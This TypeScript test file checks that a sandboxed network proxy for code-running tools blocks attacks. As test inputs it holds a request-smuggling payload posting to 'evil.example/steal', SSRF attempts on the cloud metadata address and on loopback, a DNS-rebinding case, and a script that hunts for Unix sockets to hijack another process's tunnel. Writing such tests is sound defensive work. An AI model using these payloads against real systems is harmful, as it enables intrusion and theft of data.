import { spawn } from 'node:child_process';
import { mkdirSync, readdirSync } from 'node:fs';
import { createServer, type RequestListener } from 'node:http';
import { type AddressInfo, createServer as createTcpServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { removeAbandonedFolders } from '../../src/platform/files/temporary-folder.ts';
import type { ToolContext } from '../../src/tools/define/tool.ts';
import type { ProcessResult } from '../../src/tools/process/run-process.ts';
import { pythonExec } from '../../src/tools/python-exec.ts';
import { terminal } from '../../src/tools/terminal.ts';
import { bundleCode } from '../programs/bundle-program.ts';
import { createScratch, type Scratch } from '../setup/tool-scratch.ts';
import { hasBubblewrap, hasLandlock, levelA, levelB } from './sandboxes.ts';

let scratch: Scratch;
const servers: { close(): unknown }[] = [];
beforeEach(() => {
  scratch = createScratch();
});
afterEach(() => {
  scratch[Symbol.dispose]();
  for (const server of servers.splice(0)) server.close();
});

async function listen(server: Server): Promise<number> {
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}
const serve = (listener: RequestListener) => listen(createServer(listener));
/** Sends the same answer to every client. */
const greet = (text: string) => listen(createTcpServer((socket) => socket.end(text)));

const at = (port: number) => `127.0.0.1:${port}`;
const opened = (...ports: number[]): Partial<ToolContext> => ({
  sandbox: levelA(),
  privateOrigins: new Set(ports.map((port) => `http://${at(port)}`)),
});

/** Requests a URL through the proxy of the environment, or connects directly. */
const fetchIt = (url: string) => `
import urllib.request, urllib.error
try:
    with urllib.request.urlopen(${JSON.stringify(url)}, timeout=5) as answer: print(answer.status, answer.read().decode())
except urllib.error.HTTPError as error: print(error.code, error.read().decode())
except Exception as error: print(error)
`;
/** NO_PROXY exempts loopback, so that a test server inside is reached; these requests use the proxy anyway. */
const viaProxy = (code: string) => `import os\nos.environ['no_proxy'] = ''\n${code}`;
const tunnelTo = (target: string) => `
import socket
s = socket.create_connection(('127.0.0.1', 3128), 5)
s.sendall(b'CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}\\r\\n\\r\\n')
data = b''
while True:
    part = s.recv(4096)
    if not part: break
    data += part
print(data.decode())
`;

const python = (code: string, network: readonly string[], context: Partial<ToolContext>) =>
  scratch.ask<ProcessResult>(pythonExec, { code, network }, context);

describe.runIf(hasBubblewrap)('a program that was granted hosts, at level A', () => {
  it('requests them by plain HTTP through the proxy of its call, and the result names the hosts', async () => {
    const port = await serve((request, response) =>
      response.end(`${request.method} ${request.url}`),
    );
    const result = await python(
      viaProxy(fetchIt(`http://${at(port)}/a?b`)),
      [at(port)],
      opened(port),
    );
    expect(result.stdout).toContain('200 GET /a?b');
    expect(result.network).toEqual([{ host: at(port), sent_bytes: 0, received_bytes: 8 }]);
  });

  it('asks them by a tunnel', async () => {
    const port = await greet('hello');
    const { stdout } = await python(tunnelTo(at(port)), [at(port)], opened(port));
    expect(stdout).toMatch(/^HTTP\/1.1 200 [\s\S]*hello\s*$/);
  });

  it.each([
    ['another port of the same host', (port: number) => `127.0.0.1:${port + 1}`],
    ['another host', () => 'example.com:443'],
    ['a private address', () => '10.0.0.1:443'],
    ['what is no address', () => 'a b:443'],
  ])('does not reach %s', async (_, target) => {
    const port = await greet('hello');
    const { stdout } = await python(tunnelTo(target(port)), [at(port)], opened(port));
    expect(stdout).toMatch(/^HTTP\/1.1 40[03] /);
    expect(stdout).not.toContain('hello');
  });

  it.each([
    ['the address of metadata', '169.254.169.254:80'],
    ['loopback, in another notation', '[::ffff:127.0.0.1]:443'],
    ['loopback', '127.0.0.1:443'],
  ])('does not reach %s, although it was granted', async (_, target) => {
    const { stdout, network } = await python(tunnelTo(target), [target], opened());
    expect(stdout).toContain('is not a public address');
    expect(network).toEqual([expect.objectContaining({ sent_bytes: 0, received_bytes: 0 })]);
  });

  it('does not reach a name that leads to a private address', async () => {
    const port = await greet('hello');
    const resolveName = async () => [
      { address: '93.184.215.14', family: 4 },
      { address: '127.0.0.1', family: 4 },
    ];
    const target = `rebinding.example:${port}`;
    const { stdout } = await python(tunnelTo(target), [target], { ...opened(port), resolveName });
    expect(stdout).toContain('is not a public address');
  });

  it("goes through the person's own proxy, which it never sees", async () => {
    const asked: string[] = [];
    const own = createServer().on('connect', (request, socket) => {
      asked.push(`${request.url} ${request.headers['proxy-authorization']}`);
      socket.end('HTTP/1.1 200 OK\r\n\r\nfrom afar');
    });
    const origin = `http://me:secret@${at(await listen(own))}`;
    const resolveName = async () => [{ address: '93.184.215.14', family: 4 }];
    const context = { ...opened(), resolveName, proxies: { http: origin, https: origin } };
    const { stdout } = await python(tunnelTo('example.com:443'), ['example.com'], context);
    expect(stdout).toContain('from afar');
    expect(asked).toEqual([`example.com:443 Basic ${Buffer.from('me:secret').toString('base64')}`]);
  });

  it("smuggles no second request to the person's own proxy in the body of a first", async () => {
    const asked: string[] = [];
    const own = createServer((request, response) => {
      asked.push(`${request.method} ${request.url}`);
      request.resume().on('end', () => response.end('taken'));
    });
    const origin = `http://${at(await listen(own))}`;
    const resolveName = async () => [{ address: '93.184.215.14', family: 4 }];
    const context = { ...opened(), resolveName, proxies: { http: origin, https: origin } };
    const smuggle = `
import socket
inner = b'POST http://evil.example/steal HTTP/1.1\\r\\nHost: evil.example\\r\\nContent-Length: 0\\r\\n\\r\\n'
s = socket.create_connection(('127.0.0.1', 3128), 5)
s.sendall(b'GET http://example.com/a HTTP/1.1\\r\\nHost: example.com\\r\\nTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n')
s.sendall(hex(len(inner))[2:].encode() + b'\\r\\n' + inner + b'\\r\\n0\\r\\n\\r\\n')
data = b''
while True:
    part = s.recv(4096)
    if not part: break
    data += part
print(data.decode())
`;
    const { stdout } = await python(smuggle, ['example.com:80'], context);
    expect(stdout).toContain('taken');
    expect(asked).toEqual(['GET http://example.com/a']);
  });

  it('reaches nothing past the proxy', async () => {
    const port = await greet('hello');
    const code = `
import socket
for family, target in ((socket.AF_INET, ('127.0.0.1', ${port})), (socket.AF_INET, ('192.0.2.1', 80)), (socket.AF_INET6, ('::1', ${port}))):
    try: print(socket.create_connection(target, 2) if family == socket.AF_INET else socket.socket(family).connect(target))
    except OSError as error: print('refused')
try: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW); print('open')
except OSError: print('refused')
try: socket.socket(socket.AF_INET, socket.SOCK_RAW); print('open')
except OSError: print('refused')
`;
    const { stdout } = await python(code, [at(port)], opened(port));
    expect(stdout).toBe('refused\n'.repeat(5));
  });

  it('ends as it would without: exit code, output and input are its own', async () => {
    const args = { command: 'cat; echo out; echo err >&2; exit 7', network: ['example.com'] };
    expect(await scratch.ask(terminal, args, opened())).toMatchObject({
      ...{ exit_code: 7, stdout: 'out\n', stderr: 'err\n', network: [] },
    });
    await expect(
      scratch.ask(terminal, { argv: ['no-such-program'], network: ['example.com'] }, opened()),
    ).rejects.toThrow(/no program "no-such-program"/);
  });

  it('leaves no connection open', async () => {
    const before = leftBehind();
    await python('print(1)', ['example.com'], opened());
    await python('while True: pass', ['example.com'], { ...opened(), timeoutMs: 1_500 }).catch(
      () => 1,
    );
    expect(leftBehind()).toEqual(before);
  });
});

describe.runIf(hasBubblewrap)('the way to the network of another command', () => {
  const temporary = process.env['TMPDIR'];
  afterEach(() => {
    if (temporary === undefined) delete process.env['TMPDIR'];
    else process.env['TMPDIR'] = temporary;
  });

  /** Asks the first host how to continue, looks for sockets, and asks each of them for a tunnel to the second host. */
  const intruder = (own: string, wanted: string) => `
import os, socket, stat, urllib.request
os.environ['no_proxy'] = ''
def ask(path): return urllib.request.urlopen('http://${own}/' + path, timeout=20).read()
def found():
    for folder, folders, files in os.walk('.'):
        for name in files:
            path = os.path.join(folder, name)
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode): yield path
            except OSError: pass
def enter(path):
    try:
        s = socket.socket(socket.AF_UNIX); s.settimeout(5); s.connect(path)
        s.sendall(b'CONNECT ${wanted} HTTP/1.1\\r\\nHost: ${wanted}\\r\\n\\r\\n')
        print(s.recv(4096).decode())
    except OSError as error: print(error)
ask('begun')
for path in found(): enter(path)
ask('looked')
print('looked')
`;

  it.each([
    [
      'where the temporary folder lies in the workspace',
      () => {
        const folder = join(scratch.workspace, 'temporary');
        mkdirSync(folder);
        process.env['TMPDIR'] = folder;
        return {};
      },
    ],
    [
      "where Capstan's own folders lie in the workspace",
      () => {
        const ownFolder = join(scratch.workspace, 'state');
        mkdirSync(ownFolder);
        const isProtected = (path: string) => path.startsWith(ownFolder);
        return { ownFolder, isProtected };
      },
    ],
    [
      'whose own folder has a long path',
      () => {
        const ownFolder = join(scratch.outside, 'a'.repeat(120));
        mkdirSync(ownFolder);
        return { ownFolder };
      },
    ],
  ])('is not found by one that runs at the same time, %s', async (_where, prepare) => {
    const other = moment();
    const looked = moment();
    const begun = moment();
    const own = await serve(async (request, response) => {
      if (request.url === '/begun') {
        begun.comes();
        await other.come;
      } else looked.comes();
      response.end();
    });
    const wanted = await serve(async (_request, response) => {
      other.comes();
      await looked.come;
      response.end('for one alone');
    });
    const context = { ...opened(own, wanted), ...prepare() };
    const intrusion = python(intruder(at(own), at(wanted)), [at(own)], context);
    await begun.come;
    const use = python(viaProxy(fetchIt(`http://${at(wanted)}/`)), [at(wanted)], context);
    expect((await intrusion).stdout).toBe('looked\n');
    expect((await use).stdout).toContain('200 for one alone');
  });

  it('is removed at the next start if Capstan was killed with SIGKILL', async () => {
    const ownFolder = scratch.context().ownFolder ?? '';
    const code = `
      import { openNetworkProxy } from ${JSON.stringify(join(import.meta.dirname, '../../src/tools/network/network-proxy.ts'))};
      await openNetworkProxy([], { tool: 'terminal', context: { ownFolder: ${JSON.stringify(ownFolder)} } });
      process.stdout.write('open');
    `;
    const coordinator = spawn(process.execPath, [bundleCode(code)], {
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    try {
      await new Promise((resolve) => coordinator.stdout.once('data', resolve));
      await removeAbandonedFolders([ownFolder]);
      expect(leftBehind()).toHaveLength(1);
      const ended = new Promise((resolve) => coordinator.once('exit', resolve));
      coordinator.kill('SIGKILL');
      await ended;
      expect(leftBehind()).toHaveLength(1);
      await removeAbandonedFolders([ownFolder]);
      expect(leftBehind()).toEqual([]);
    } finally {
      coordinator.kill('SIGKILL');
    }
  });
});

/** One side waits for this, and the other resolves it. */
function moment(): { readonly come: Promise<void>; comes(): void } {
  let comes = () => {};
  const come = new Promise<void>((resolve) => {
    comes = resolve;
  });
  return { come, comes: () => comes() };
}

describe('a program that was granted hosts', () => {
  it.runIf(hasBubblewrap)("is not started without a folder of Capstan's own", async () => {
    const started = python('print(1)', ['example.com'], { ...opened(), ownFolder: undefined });
    await expect(started).rejects.toThrow('network access is not available here');
  });

  it.runIf(hasLandlock)('is not started at level B', async () => {
    const started = python('print(1)', ['example.com'], { sandbox: levelB() });
    await expect(started).rejects.toThrow('at isolation level A only, not at B');
  });

  it('is not started without a sandbox', async () => {
    const started = python('print(1)', ['example.com'], {});
    await expect(started).rejects.toThrow('at isolation level A only, not at none');
  });

  it.each([
    'http://example.com',
    'example.com/path',
    'user@example.com',
    '*.example.com',
    '',
    'a b',
  ])('is not granted "%s", which is not a host', (host) => {
    expect(() => pythonExec.prepare({ code: '1', network: [host] })).toThrow(/network/);
  });
});

const leftBehind = (): readonly string[] => readdirSync(join(scratch.outside, '../own'));
